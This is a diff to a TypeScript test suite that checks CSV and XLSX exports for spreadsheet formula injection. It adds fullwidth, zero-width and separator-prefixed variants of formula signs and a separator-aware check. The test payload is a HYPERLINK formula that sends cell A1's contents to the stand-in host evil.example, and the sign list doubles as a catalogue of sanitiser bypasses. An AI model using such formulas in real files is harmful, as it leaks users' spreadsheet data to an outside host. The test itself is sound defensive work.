@@ -146,7 +146,25 @@ describe('PostgreSQL', () => {
 describe.each(['csv', 'xlsx'] as const)('an export as %s', (format) => {
   test('has no cell that a spreadsheet program would run, whatever was stored and how', async () => {
     const project = await aProject(database)
-    const signs = ['=', '+', '-', '@', '\t', '\r', '\n', "'"]
+    const signs = [
+      '=',
+      '+',
+      '-',
+      '@',
+      '\t',
+      '\r',
+      '\n',
+      "'",
+      '＝',
+      '＋',
+      '－',
+      '＠',
+      ' =',
+      '\u200b=',
+      'a;=',
+      'a\t=',
+      'a|=',
+    ]
     for (const [index, sign] of signs.entries()) {
       const formula = `${sign}HYPERLINK("https://evil.example?"&A1,"x")`
       const section = await aSection(database, { project, name: formula })
@@ -162,5 +180,11 @@ describe.each(['csv', 'xlsx'] as const)('an export as %s', (format) => {
     const formulas = rows.flat().filter((cell) => String(cell).includes('HYPERLINK'))
     expect(formulas).toHaveLength(signs.length * 5)
     for (const cell of formulas) expect(cell).toMatch(/^'/)
+    if (format === 'xlsx') return
+    // Opened where another character separates cells, the quotes of ours do not hold them together.
+    for (const separator of [';', '\t', '|']) {
+      const cells = rawPayload.toString().split(separator)
+      for (const cell of cells) expect(cell).not.toMatch(/^[\s"\p{C}]*[=+@＝＋－＠-]/u)
+    }
   })
 })
